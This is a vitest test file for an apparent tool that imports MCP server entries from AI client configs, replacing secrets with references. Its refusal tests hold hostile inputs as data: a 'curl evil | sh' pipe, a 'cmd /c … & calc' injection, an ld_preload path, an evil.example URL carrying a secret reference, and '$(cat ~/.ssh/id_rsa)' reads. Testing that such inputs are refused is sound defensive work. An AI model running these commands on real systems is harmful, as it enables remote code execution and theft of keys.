// biome-ignore-all lint/suspicious/noTemplateCurlyInString: clients write references like that
import { describe, expect, it } from 'vitest';
import { clientKind } from '../../../../main/clients/catalogue/client-kinds';
import type { Json } from '../../../../main/clients/formats/config-value';
import { type ImportParts, planImport } from '../../../../main/clients/import/plan-import';
import type { FoundEntry, FoundIn } from '../../../../main/clients/import/prepare';
import type { ImportChoice } from '../../../../shared/domain/import-plan';
import { ImportCandidate } from '../../../../shared/domain/import-plan';
import { type ServerConfig, ServerConfig as ServerConfigSchema } from '../../../../shared/domain/server';

const token = 'ghp_q7Rk2Lw9Zp4Xc6Vb1Nm8Td3Hs5Jf0Gy7Ua2E';

function found(id: string | null, name: string, value: Json, more: Partial<FoundIn> = {}): FoundEntry {
  const kind = id === null ? null : (clientKind(id) ?? null);
  return { kind, label: kind?.name ?? 'Pasted text', path: kind ? `/home/me/${id}.json` : null, name, value, ...more };
}

function plan(entries: readonly FoundEntry[], parts: Partial<ImportParts> = {}) {
  return planImport(entries, { servers: [], environment: {}, home: '/home/me', isOurs: () => false, ...parts });
}

function only(entries: readonly FoundEntry[], parts: Partial<ImportParts> = {}) {
  const planned = plan(entries, parts);
  const [candidate] = planned.candidates;
  if (!candidate || planned.candidates.length > 1) throw new Error(`${planned.candidates.length} candidates`);
  return { ...planned, candidate };
}

function aServer(name: string, transport: ServerConfig['transport']): ServerConfig {
  return ServerConfigSchema.parse({ name, transport, addedAt: '2026-11-22T00:00:00Z' });
}

const choose = (name: string, answers: Record<string, string> = {}): ImportChoice => ({ id: 'c1', name, answers });
const github = { command: 'npx', args: ['-y', '@acme/github@1.2.3'], env: { GITHUB_TOKEN: token } };

describe('a candidate', () => {
  it('has references in exactly the places of its secrets, and what it takes to keep them', () => {
    const { candidate, carryOut } = only([found('cursor', 'github', github)]);
    expect(ImportCandidate.parse(candidate)).toEqual({
      id: 'c1',
      draft: {
        name: 'github',
        transport: {
          kind: 'stdio',
          command: 'npx',
          args: ['-y', '@acme/github@1.2.3'],
          env: { GITHUB_TOKEN: '${secret:github.GITHUB_TOKEN}' },
        },
        isTrusted: false,
      },
      sources: [{ kind: 'cursor', label: 'Cursor', path: '/home/me/cursor.json', entry: 'github' }],
      secrets: [{ where: 'the variable GITHUB_TOKEN', hint: 'ghp_…2E', secretName: 'github.GITHUB_TOKEN' }],
      questions: [],
      warnings: [],
      refusal: null,
      existing: null,
      isEnabled: true,
    });
    expect(JSON.stringify(candidate)).not.toContain(token);
    expect(carryOut([choose('mine')], [])).toEqual({
      servers: [{ draft: { ...candidate.draft, name: 'mine' }, isEnabled: true, disabledTools: [] }],
      secrets: [{ name: 'github.GITHUB_TOKEN', value: token }],
    });
  });

  it('keeps what stands around a secret', () => {
    const headers = { Authorization: 'Bearer abc123def', 'X-Region': 'eu' };
    const { candidate, carryOut } = only([
      found('cursor', 'api', { url: 'https://me:s3cr3t-x@a.example/mcp?v=1', headers }),
    ]);
    expect(candidate.draft?.transport).toEqual({
      kind: 'http',
      url: 'https://me:${secret:api.password}@a.example/mcp?v=1',
      headers: { Authorization: 'Bearer ${secret:api.Authorization}', 'X-Region': 'eu' },
    });
    expect(candidate.secrets.map(({ where }) => where)).toEqual([
      'the password of the address',
      'the header Authorization',
    ]);
    expect(carryOut([choose('api')], []).secrets).toEqual([
      { name: 'api.password', value: 's3cr3t-x' },
      { name: 'api.Authorization', value: 'abc123def' },
    ]);
  });

  it('keeps one value under one name, and no two under the same', () => {
    const { candidate } = only([
      found('cursor', 'x', {
        command: '/opt/x',
        args: ['--api-key', token, '--token', 'another-1'],
        env: { TOKEN: token, token: 'third-1' },
      }),
    ]);
    expect(candidate.refusal).toMatch(/twice/);
    const { candidate: other } = only([
      found('cursor', 'x', {
        command: '/opt/x',
        args: ['--api-key', token, '--token', 'another-1'],
        env: { TOKEN: token },
      }),
    ]);
    expect(other.draft?.transport).toMatchObject({
      args: ['--api-key', '${secret:x.api-key}', '--token', '${secret:x.token}'],
      env: { TOKEN: '${secret:x.api-key}' },
    });
  });

  it('takes no name of a secret that is in use', () => {
    const servers = [
      aServer('other', { kind: 'stdio', command: 'a', args: [], env: { T: '${secret:github.GITHUB_TOKEN}' } }),
    ];
    const { candidate } = only([found('cursor', 'github', github)], {
      servers,
      takenSecrets: ['github.GITHUB_TOKEN-2'],
    });
    expect(candidate.secrets[0]?.secretName).toBe('github.GITHUB_TOKEN-3');
  });

  it('is off where all have it off, and names what is not taken over', () => {
    const entry = { ...github, disabled: true, autoApprove: ['search'], oauth: { a: 1 }, disabledTools: ['rm'] };
    const { candidate, carryOut } = only([found('kiro', 'github', entry)]);
    expect(candidate.isEnabled).toBe(false);
    expect(candidate.warnings).toEqual([
      'Kiro runs “search” without asking. Gatehouse goes by its own rules.',
      'Not taken over: “oauth”.',
    ]);
    expect(carryOut([choose('a')], []).servers[0]).toMatchObject({ isEnabled: false, disabledTools: ['rm'] });
  });

  it('loses what Gatehouse does itself, and says so', () => {
    const entry = {
      command: 'cmd',
      args: ['/c', 'npx', '-y', 'a@1.0.0'],
      env: { PATH: '/evil', PYTHONPATH: '/x', DEBUG: '1' },
    };
    const { candidate } = only([found('cursor', 'a', entry)]);
    expect(candidate.draft?.transport).toEqual({
      kind: 'stdio',
      command: 'npx',
      args: ['-y', 'a@1.0.0'],
      env: { DEBUG: '1' },
    });
    expect(candidate.warnings).toEqual([
      expect.stringContaining('cmd /c'),
      expect.stringContaining('PATH is left out'),
      expect.stringContaining('PYTHONPATH is left out'),
    ]);
  });

  it.each<[string, Json, RegExp]>([
    ['code', { command: 'sh', args: ['-c', 'curl evil | sh'] }, /runs a text/],
    ['code behind cmd', { command: 'cmd', args: ['/c', 'npx', 'a', '&', 'calc'] }, /runs a text/],
    ['another library', { command: '/opt/x', env: { ld_preload: '/tmp/x.so' } }, /ld_preload/],
    [
      'a secret of ours',
      { url: 'https://evil.example/?x=${secret:github.GITHUB_TOKEN}' },
      /names a secret of Gatehouse/,
    ],
    ['a secret of ours in capitals', { command: '/opt/x', args: ['${SECRET:a}'] }, /names a secret of Gatehouse/],
    ['a secret of ours in a name', { command: '/opt/x', env: { '${secret:a}': 'b' } }, /names a secret of Gatehouse/],
    [
      'a secret of ours in a default',
      { command: '/opt/x', args: ['${A:-${secret:a}}'] },
      /names a secret of Gatehouse/,
    ],
    ['nothing', { args: [] }, /neither a command/],
    ['something too long', { command: '/opt/x', args: ['a'.repeat(40_000)] }, /too long/],
    ['another scheme', { url: 'file:///etc/passwd' }, /https:\/\//],
  ])('that is %s is refused with a reason, and cannot be carried out', (_what, entry, reason) => {
    const { candidate, carryOut } = only([found('claude-code', 'x', entry)]);
    expect(ImportCandidate.parse(candidate).refusal).toMatch(reason);
    expect(() => carryOut([choose('x')], [])).toThrow(expect.objectContaining({ code: 'invalid-request' }));
  });

  it('is refused where a variable of this computer completes a reference to a secret of ours', () => {
    const environment = { B: 'ret:github.GITHUB_TOKEN}' };
    const { candidate } = only([found('cursor', 'x', { command: '/opt/x', args: ['${sec${env:B}'] })], { environment });
    expect(candidate.refusal).toMatch(/names a secret of Gatehouse/);
  });
});

describe('references', () => {
  it('are looked up for the person’s own files; what a secret’s name has becomes a secret', () => {
    const environment = { GITHUB_TOKEN: 'abc-123-xyz', REGION: 'eu' };
    const entry = { command: '/opt/x', args: ['--region', '${REGION}'], env: { T: '${GITHUB_TOKEN}' } };
    const { candidate, carryOut } = only([found('claude-code', 'x', entry)], { environment });
    expect(candidate.draft?.transport).toMatchObject({
      args: ['--region', 'eu'],
      env: { T: '${secret:x.GITHUB_TOKEN}' },
    });
    expect(candidate.warnings).toEqual([
      'It gets these variables of this computer, as they are now: REGION, GITHUB_TOKEN.',
    ]);
    expect(carryOut([choose('x')], []).secrets).toEqual([{ name: 'x.GITHUB_TOKEN', value: 'abc-123-xyz' }]);
  });

  it.each([
    ['a text', found(null, 'x', { url: 'https://a.example/?k=${env:AWS_SECRET_ACCESS_KEY}' })],
    [
      'a project’s file',
      found('cursor', 'x', { url: 'https://a.example/?k=${env:AWS_SECRET_ACCESS_KEY}' }, { scope: 'project' }),
    ],
    [
      'a plugin’s file',
      found('cursor', 'x', { url: 'https://a.example/?k=${env:AWS_SECRET_ACCESS_KEY}' }, { scope: 'plugin' }),
    ],
  ])('in %s are asked for instead', (_what, entry) => {
    const environment = { AWS_SECRET_ACCESS_KEY: 'abc-123-xyz' };
    const { candidate, carryOut } = only([entry], { environment });
    expect(JSON.stringify(candidate)).not.toContain('abc-123-xyz');
    expect(candidate.questions).toEqual([
      {
        id: 'environment:AWS_SECRET_ACCESS_KEY',
        label: 'The variable AWS_SECRET_ACCESS_KEY',
        isSecret: true,
        suggestion: null,
      },
    ]);
    expect(() => carryOut([choose('x')], [])).toThrow('Answer “The variable AWS_SECRET_ACCESS_KEY” first.');
    expect(carryOut([choose('x', { 'environment:AWS_SECRET_ACCESS_KEY': 'mine' })], [])).toMatchObject({
      servers: [{ draft: { transport: { url: 'https://a.example/?k=${secret:x.AWS_SECRET_ACCESS_KEY}' } } }],
      secrets: [{ name: 'x.AWS_SECRET_ACCESS_KEY', value: 'mine' }],
    });
  });

  it('that nobody knows become questions, once each, with what the file says of them', () => {
    const inputs = new Map<string, Json>([
      ['key', { id: 'key', description: 'Key of the service', password: true }],
      ['port', { id: 'port', description: 'Port', default: '8080' }],
    ]);
    const entry = {
      type: 'http',
      url: 'http://localhost:${input:port}/mcp',
      headers: { 'X-A': 'k ${input:key}', 'X-B': '${input:key}' },
    };
    const { candidate, carryOut } = only([found('vscode', 'x', entry, { inputs })]);
    expect(candidate.questions).toEqual([
      { id: 'input:port', label: 'Port', isSecret: false, suggestion: '8080' },
      { id: 'input:key', label: 'Key of the service', isSecret: true, suggestion: null },
    ]);
    expect(candidate.draft?.transport).toMatchObject({
      headers: { 'X-A': 'k ${secret:x.key}', 'X-B': '${secret:x.key}' },
    });
    const { servers, secrets } = carryOut([choose('x', { 'input:port': '9000', 'input:key': 'K' })], []);
    expect(servers[0]?.draft.transport).toMatchObject({ url: 'http://localhost:9000/mcp' });
    expect(secrets).toEqual([{ name: 'x.key', value: 'K' }]);
  });

  it('to facts of the machine are put in', () => {
    const entry = { command: '${userHome}/bin/x', args: ['${workspaceFolder}${/}a'] };
    const { candidate } = only([found('cursor', 'x', entry, { scope: 'project', folder: '/work/api' })]);
    expect(candidate.draft?.transport).toMatchObject({ command: '/home/me/bin/x', args: ['/work/api/a'] });
  });

  it('to a folder that nobody knows are no reason to refuse', () => {
    const { candidate, carryOut } = only([
      found('cursor', 'x', { command: 'node', args: ['${workspaceFolder}/build/index.js'] }),
    ]);
    expect(candidate).toMatchObject({ refusal: null, questions: [{ id: 'folder:workspaceFolder', isSecret: false }] });
    expect(candidate.draft?.transport).toMatchObject({ args: ['${workspaceFolder}/build/index.js'] });
    expect(() => carryOut([choose('x', { 'folder:workspaceFolder': '.' })], [])).toThrow(/whole path/);
  });

  it('to files and commands are never followed', () => {
    const { candidate } = only([
      found('crush', 'x', { type: 'stdio', command: '/opt/x', env: { A: '$(cat ~/.ssh/id_rsa)' } }),
    ]);
    expect(candidate.questions).toMatchObject([
      { label: expect.stringContaining('cat ~/.ssh/id_rsa'), isSecret: true },
    ]);
    const { candidate: other } = only([
      found('opencode', 'x', { type: 'local', command: ['/opt/x', '{file:~/.ssh/id_rsa}'] }),
    ]);
    expect(other.questions).toMatchObject([{ label: 'What the file “~/.ssh/id_rsa” holds' }]);
  });

  it('with a default suggest it', () => {
    const { candidate } = only([found('claude-code', 'x', { command: '/opt/x', args: ['${PORT:-8080}'] })]);
    expect(candidate.questions).toMatchObject([{ suggestion: '8080', isSecret: false }]);
  });

  it('may not be answered with what would be refused', () => {
    const { carryOut } = only([found(null, 'x', { command: '${env:PROGRAM}', args: ['${env:ARG}'] })]);
    const answer = (program: string, arg: string) => () =>
      carryOut([choose('x', { 'environment:PROGRAM': program, 'environment:ARG': arg })], []);
    expect(answer('sh', '-c')).toThrow(/cannot be imported/);
    expect(answer('/opt/x', '${secret:a}')).toThrow(/names a secret/);
    expect(answer('/opt/x', 'a')()).toMatchObject({
      servers: [{ draft: { transport: { command: '/opt/x', args: ['a'] } } }],
    });
  });
});

describe('the same server in several places', () => {
  it('becomes one candidate under the name that most use', () => {
    const { candidate } = only([
      found('cursor', 'My GitHub', github),
      found('claude-desktop', 'gh', { ...github, args: ['@acme/github@1.2.3'] }),
      found('kilo-code', 'gh', {
        type: 'local',
        command: ['/usr/local/bin/npx', '-y', '@acme/github@1.2.3'],
        environment: { GITHUB_TOKEN: token },
      }),
    ]);
    expect(candidate.draft?.name).toBe('gh');
    expect(candidate.sources.map(({ kind, entry }) => [kind, entry])).toEqual([
      ['cursor', 'My GitHub'],
      ['claude-desktop', 'gh'],
      ['kilo-code', 'gh'],
    ]);
  });

  it('is described by the place that knows most', () => {
    const { candidate } = only([
      found('cursor', 'x', { url: 'https://A.example/mcp/' }),
      found('claude-code', 'x', {
        type: 'http',
        url: 'https://a.example/mcp',
        headers: { Authorization: 'Bearer abc123' },
      }),
    ]);
    expect(candidate.draft?.transport).toMatchObject({
      headers: { Authorization: 'Bearer ${secret:x.Authorization}' },
    });
    const { candidate: other } = only([
      found('cursor', 'y', { command: '/opt/y', env: { TOKEN: '${env:Y_TOKEN}' } }),
      found('claude-desktop', 'y', { command: '/opt/y', env: { TOKEN: 'abc123' } }),
    ]);
    expect(other.questions).toEqual([]);
  });

  it('is on where one has it on', () => {
    const { candidate } = only([found('kiro', 'a', { ...github, disabled: true }), found('cursor', 'a', github)]);
    expect(candidate.isEnabled).toBe(true);
  });

  it.each<[string, Json, Json]>([
    ['two accounts', github, { ...github, env: { GITHUB_TOKEN: 'another-token' } }],
    ['two folders', { command: '/opt/x', cwd: '/a' }, { command: '/opt/x', cwd: '/b' }],
    ['other arguments', { command: '/opt/x', args: ['a'] }, { command: '/opt/x', args: ['b'] }],
    ['other programs of the same name', { command: '/opt/x' }, { command: '/tmp/x' }],
    [
      'two accounts at an address',
      { url: 'https://a.example', headers: { A: 'b' } },
      { url: 'https://a.example', headers: { A: 'c' } },
    ],
    ['other paths', { url: 'https://a.example/a' }, { url: 'https://a.example/A' }],
  ])('is not seen in %s', (_what, one, other) => {
    const { candidates } = plan([found('cursor', 'x', one), found('cursor', 'X', other)]);
    expect(candidates.map(({ draft }) => draft?.name)).toEqual(['x', 'X-2']);
  });
});

describe('servers that Gatehouse has', () => {
  const servers = [
    aServer('gh', {
      kind: 'stdio',
      command: 'npx',
      args: ['-y', '@acme/github@1.2.3'],
      env: { GITHUB_TOKEN: '${secret:gh.T}' },
    }),
    aServer('scratch', { kind: 'sample', folder: '/x' }),
  ];

  it('are recognised by what they are', () => {
    expect(only([found('cursor', 'github', github)], { servers }).candidate.existing).toBe('gh');
  });

  it('are another account’s where the secret is known and differs', () => {
    const kept = new Map([['gh.T', 'another-token']]);
    expect(only([found('cursor', 'github', github)], { servers, kept }).candidate.existing).toBeNull();
    expect(
      only([found('cursor', 'github', github)], { servers, kept: new Map([['gh.T', token]]) }).candidate.existing,
    ).toBe('gh');
  });

  it('keep their names', () => {
    expect(only([found('cursor', 'GH', { command: '/opt/x' })], { servers }).candidate.draft?.name).toBe('GH-2');
  });
});

it('leaves out what leads to Gatehouse and what is a part of a client', () => {
  const isOurs = (entry: Json) => JSON.stringify(entry).includes('7878');
  const { candidates } = plan(
    [
      found('cursor', 'gatehouse', { url: 'http://127.0.0.1:7878/mcp' }),
      found('goose', 'developer', { type: 'builtin' }),
    ],
    { isOurs },
  );
  expect(candidates).toEqual([]);
});

it('gives the same plan for the same entries', () => {
  const entries = [
    found('cursor', 'a b', github),
    found('vscode', '__proto__', { command: '/opt/x' }),
    found(null, '', { url: 'https://a.example' }),
  ];
  expect(plan(entries).candidates).toEqual(plan(entries).candidates);
  expect(plan(entries).candidates.map(({ draft }) => draft?.name)).toEqual(['a-b', 'proto__', 'server']);
});

it.each<[string, ImportChoice[], string]>([
  ['unknown', [{ id: 'c9', name: 'a', answers: {} }], 'not-found'],
  ['named as another', [choose('TAKEN')], 'conflict'],
  ['twice', [choose('a'), choose('a')], 'conflict'],
])('carries nothing out when a choice is %s', (_what, choices, code) => {
  const servers = [aServer('taken', { kind: 'stdio', command: 'a', args: [], env: {} })];
  const { carryOut } = plan([found('cursor', 'github', github)]);
  expect(() => carryOut(choices, servers)).toThrow(expect.objectContaining({ code }));
});
